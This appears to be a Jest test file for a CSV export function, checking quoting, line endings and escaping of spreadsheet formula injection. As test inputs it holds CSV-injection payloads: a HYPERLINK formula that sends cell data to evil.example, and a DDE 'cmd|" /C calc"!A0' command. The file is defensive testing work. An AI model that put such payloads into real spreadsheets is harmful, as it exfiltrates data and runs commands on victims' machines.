import Papa from 'papaparse';
import { toCsv } from '../../src/lib/to-csv';

/** The cells of a CSV as a spreadsheet reads them back (the byte order mark and header left out). */
function readBack(csv: string): string[][] {
  return Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data.slice(1);
}

describe('toCsv', () => {
  it('starts with a byte order mark and ends lines with CRLF, for Excel', () => {
    const csv = toCsv(['code', 'value'], [['CSC 022', 81.3]]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.slice(1)).toBe('code,value\r\nCSC 022,81.3\r\n');
  });

  it('quotes commas, quotes and line breaks', () => {
    const csv = toCsv(['title'], [['% ICPC\'s held within 15 days (CPP), excl. "transfer-in"'], ['two\nlines']]);
    expect(csv.slice(1)).toBe('title\r\n"% ICPC\'s held within 15 days (CPP), excl. ""transfer-in"""\r\n"two\nlines"\r\n');
  });

  it('writes missing figures as empty cells and keeps negative numbers as numbers', () => {
    expect(toCsv(['value', 'variance'], [[null, -8.7]]).slice(1)).toBe('value,variance\r\n,-8.7\r\n');
    expect(toCsv(['value', 'variance'], [[0, -12]]).slice(1)).toBe('value,variance\r\n0,-12\r\n');
  });

  it('escapes text that Excel would run as a formula', () => {
    const csv = toCsv(['title'], [['=HYPERLINK("http://evil")'], ['@SUM(A1)']]);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil"")"`);
    expect(csv).toContain(`"'@SUM(A1)"`);
  });

  it('escapes a formula that continues over a line break, whichever line ending the file used', () => {
    for (const lineEnd of ['\n', '\r\n', '\r', '\u2028']) {
      const title = `=HYPERLINK("http://evil.example/?d="&A2,${lineEnd}"Click for details")`;
      const [[cell]] = readBack(toCsv(['title'], [[title]])) as [[string]];
      expect(cell).toBe(`'${title}`);
    }
  });

  const triggers = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
  const before = ['', ' ', '  ', '\t', '\r', '\n', '\r\n', '\u00a0', '\u200b', '\ufeff', '\u202e'];
  const after = ['1+1', 'cmd|" /C calc"!A0', 'SUM(A1:A2)\nnext line', '2\r\n3', ''];

  it('escapes every leading formula character, after any blank or invisible start, whatever follows', () => {
    const cells = triggers.flatMap((trigger) => before.flatMap((lead) => after.map((rest) => `${lead}${trigger}${rest}`)));
    const read = readBack(toCsv(['title'], cells.map((cell) => [cell])));
    expect(read.map(([cell]) => cell)).toEqual(cells.map((cell) => `'${cell}`));
  });

  it('escapes a cell that starts with a tab or a carriage return, and leaves ordinary text alone', () => {
    const read = readBack(toCsv(['note'], [['\tindented'], ['\rreturn'], ['Referrals - monthly'], ['81.3% (on target)'], ['A=B']]));
    expect(read.map(([cell]) => cell)).toEqual(["'\tindented", "'\rreturn", 'Referrals - monthly', '81.3% (on target)', 'A=B']);
  });

  it('leaves numbers as numbers, negative and fractional ones included, but escapes text that looks like one', () => {
    const csv = toCsv(['variance', 'code'], [[-8.7, '-8.7'], [-0.5, '+44 1325']]);
    expect(csv.slice(1)).toBe(`variance,code\r\n-8.7,"'-8.7"\r\n-0.5,"'+44 1325"\r\n`);
  });
});
